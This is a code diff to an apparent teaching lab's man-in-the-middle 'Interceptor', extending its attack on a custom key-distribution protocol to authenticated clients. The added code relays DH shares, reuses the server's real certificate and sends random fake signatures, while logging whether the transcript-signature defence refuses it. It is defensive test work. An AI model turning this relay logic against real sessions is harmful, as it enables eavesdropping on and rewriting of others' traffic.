@@ -9,9 +9,14 @@
 //   every record: open with one session's keys, read, optionally rewrite, seal with the other's.
 //
 // This is the classic man-in-the-middle against unauthenticated Diffie-Hellman, built only from the
-// protocol's own state machines (shared/protocol/handshake.ts, secure-channel.ts): against a secure
-// client the same code cannot even start, because that client refuses a server_hello without a valid
-// certificate and transcript signature.
+// protocol's own state machines (shared/protocol/handshake.ts, secure-channel.ts).
+//
+// Against an AUTHENTICATED client she tries the same with the real certificates (substitute-dh): the
+// victim gets a server_hello with her DH share, the KDC's own certificate and a signature she cannot
+// make (random bytes); the KDC gets her client_hello, and then a client_finish with the victim's
+// certificate and, again, a signature she cannot make. She computes every Finished MAC herself (she
+// holds both DH secrets). Only ends that do not verify the transcript signature (the MITM lab's
+// transcript-signature switch) let her through; everyone else refuses with bad_signature.
 import { isDhGroup, type DhGroup } from '../../shared/crypto/dh.js';
 import { KdsError, ProtocolError, closeCodeFor, isErrorCode } from '../../shared/errors.js';
 import { ClientHandshake, ServerHandshake } from '../../shared/protocol/handshake.js';
@@ -23,6 +28,12 @@ import type {
   ServerMessage,
 } from '../../shared/protocol/secure-channel.js';
 import type { Link } from './link.js';
+import { randomBytes } from '../../shared/crypto/random.js';
+import { defenceForCode, WIRE } from '../../shared/defences.js';
+
+/** What an RSA-2048 signature looks like on the wire: Mallory's stand-in for signatures she cannot make. */
+const FAKE_SIGNATURE_BYTES = 256;
+const fakeSign = (): Promise<Buffer> => Promise.resolve(randomBytes(FAKE_SIGNATURE_BYTES));
 
 export interface InterceptHooks {
   /** Both sessions are up: Mallory holds the keys of each. */
@@ -43,6 +54,12 @@ export class Interceptor {
   #kdcChannel: ClientChannel | undefined;
   #pending: ClientRequest[] = [];
   #established = false;
+  /** Authenticated victims: its client_hello (answered once the KDC's certificate is known). */
+  #authHello: Buffer | undefined;
+  /** Authenticated victims: the KDC's server_hello, answered once the victim's certificate is known. */
+  #kdcHello: Buffer | undefined;
+  #victimCert: Buffer | undefined;
+  #awaitingKdc = false;
 
   constructor(link: Link, hooks: InterceptHooks = {}) {
     this.#link = link;
@@ -58,9 +75,13 @@ export class Interceptor {
     const link = this.#link;
     if (this.#victimChannel === undefined) {
       const f = decodeFrame(frame);
+      if (f.t === 'client_hello' && f.mode === 'auth' && isDhGroup(f.group))
+        return this.#authHelloFrom(frame, f.group);
+      if (f.t === 'client_finish' && this.#authHello !== undefined && this.#victimSide !== undefined)
+        return this.#authFinishFrom(frame);
       if (f.t === 'client_hello') {
         if (f.mode !== 'insecure' || !isDhGroup(f.group))
-          throw new ProtocolError('unexpected_message', 'the interceptor needs an insecure client');
+          throw new ProtocolError('unexpected_message', 'the interceptor needs an insecure or auth client');
         this.#group = f.group;
         this.#victimSide = new ServerHandshake({
           groups: [f.group],
@@ -134,6 +155,7 @@ export class Interceptor {
       }
       if (this.#kdcSide === undefined)
         throw new ProtocolError('unexpected_message', 'server frame before Mallory spoke');
+      if (this.#authHello !== undefined) return this.#kdcHelloFrom(frame);
       const { clientFinish, result } = await this.#kdcSide.receiveServerHello(frame);
       this.#kdcChannel = result.channel;
       link.ctx.terminatedInsecure = true;
@@ -156,6 +178,25 @@ export class Interceptor {
       for (const req of this.#pending.splice(0)) this.#sendRequest(req, false);
       return;
     }
+    if (this.#awaitingKdc) {
+      // The KDC's answer to Mallory's client_finish: an alert is its refusal (bad_signature).
+      let alert: { code: string } | undefined;
+      try {
+        const f = decodeFrame(frame);
+        if (f.t === 'alert') alert = f;
+      } catch {
+        // a record: handled below
+      }
+      if (alert !== undefined) {
+        const d = defenceForCode(alert.code, WIRE);
+        link.note('server', frame, 'terminate', `the KDC refused Mallory's client_finish (${alert.code})`);
+        if (d !== undefined) link.fail(d.defence, "the KDC refused Mallory's client_finish", alert.code);
+        else link.inconclusive(`the KDC ended Mallory's handshake with ${alert.code}`);
+        link.closeClient(1000, '');
+        link.closeServer(1000, '');
+        return;
+      }
+    }
     let msg: ServerMessage;
     try {
       msg = this.#kdcChannel.open(frame);
@@ -164,6 +205,15 @@ export class Interceptor {
       link.closeClient(1000, '');
       link.closeServer(1000, '');
       return;
+    }
+    if (this.#awaitingKdc) {
+      this.#awaitingKdc = false;
+      link.ctx.terminatedInsecure = true;
+      this.#established = true;
+      link.info(
+        "the KDC took Mallory's client_finish: she holds the keys of both sessions, every record is decrypted",
+      );
+      this.#hooks.established?.();
     }
     link.ctx.loot.inspectServerMessage(link.id, link.victimName ?? '?', msg);
     const out = (await this.#hooks.response?.(msg)) ?? msg;
@@ -181,6 +231,81 @@ export class Interceptor {
       what = `push ${out.type}`;
     }
     link.toClient(sealed, 're-encrypt', `${what}${out !== msg ? ' (REWRITTEN by Mallory)' : ''}`);
+  }
+
+  /** Authenticated victim, step 1: keep its hello, open Mallory's own auth handshake to the KDC. */
+  #authHelloFrom(frame: Buffer, group: DhGroup): void {
+    const link = this.#link;
+    this.#group = group;
+    this.#authHello = frame;
+    const victimCert = (): Buffer => this.#victimCert ?? Buffer.alloc(0);
+    this.#kdcSide = new ClientHandshake({
+      mode: 'auth',
+      groups: [group],
+      group,
+      // The victim's certificate, known once its client_finish arrives (the KDC's hello waits for it).
+      credentials: {
+        get certificateDer(): Buffer {
+          return victimCert();
+        },
+        sign: fakeSign,
+      },
+      // She does not care who the KDC is.
+      checkServerCertificate: () => {},
+    });
+    link.note('client', frame, 'terminate', 'kept by Mallory: she plays the KDC with its own certificate');
+    link.toServer(this.#kdcSide.clientHello(), 'inject', "Mallory's client_hello to the KDC: her DH share");
+  }
+
+  /** Authenticated victim, step 2: the KDC's hello gives its certificate; answer the victim with it. */
+  async #kdcHelloFrom(frame: Buffer): Promise<void> {
+    const link = this.#link;
+    if (this.#kdcHello !== undefined) {
+      link.note('server', frame, 'drop', 'unexpected before the session');
+      return;
+    }
+    const f = decodeFrame(frame);
+    if (f.t !== 'server_hello' || f.cert === undefined)
+      throw new ProtocolError('unexpected_message', 'expected the KDC server_hello');
+    this.#kdcHello = frame;
+    link.note('server', frame, 'terminate', "kept by Mallory: the KDC's certificate is what she needs");
+    this.#victimSide = new ServerHandshake({
+      groups: [this.#group!],
+      allowInsecure: false,
+      allowEnroll: false,
+      credentials: { certificateDer: Buffer.from(f.cert), sign: fakeSign },
+      checkClientCertificate: () => {},
+    });
+    const serverHello = await this.#victimSide.receiveClientHello(this.#authHello!);
+    link.toClient(
+      serverHello,
+      'inject',
+      "Mallory's server_hello: her DH share, the KDC's certificate, a signature she cannot make",
+    );
+    link.expect({
+      defence: 'transcript signature',
+      toward: 'client',
+      codes: ['bad_signature'],
+      what: "substituted the DH shares of a secure session under the KDC's certificate",
+    });
+  }
+
+  /** Authenticated victim, step 3: finish both handshakes; the KDC gets the victim's certificate. */
+  async #authFinishFrom(frame: Buffer): Promise<void> {
+    const link = this.#link;
+    const result = await this.#victimSide!.receiveClientFinish(frame);
+    this.#victimChannel = result.channel;
+    this.#victimCert = result.clientCertificate?.der;
+    link.note('client', frame, 'terminate', 'session 1 (victim <-> Mallory): the victim took her signature');
+    const { clientFinish, result: kdc } = await this.#kdcSide!.receiveServerHello(this.#kdcHello!);
+    this.#kdcChannel = kdc.channel;
+    link.toServer(
+      clientFinish,
+      'inject',
+      "Mallory's client_finish: the victim's certificate, a signature she cannot make, her own MAC",
+    );
+    // Established only once the KDC's first record opens: a KDC that verifies signatures refuses first.
+    this.#awaitingKdc = true;
   }
 
   #sendRequest(req: ClientRequest, rewritten: boolean): void {
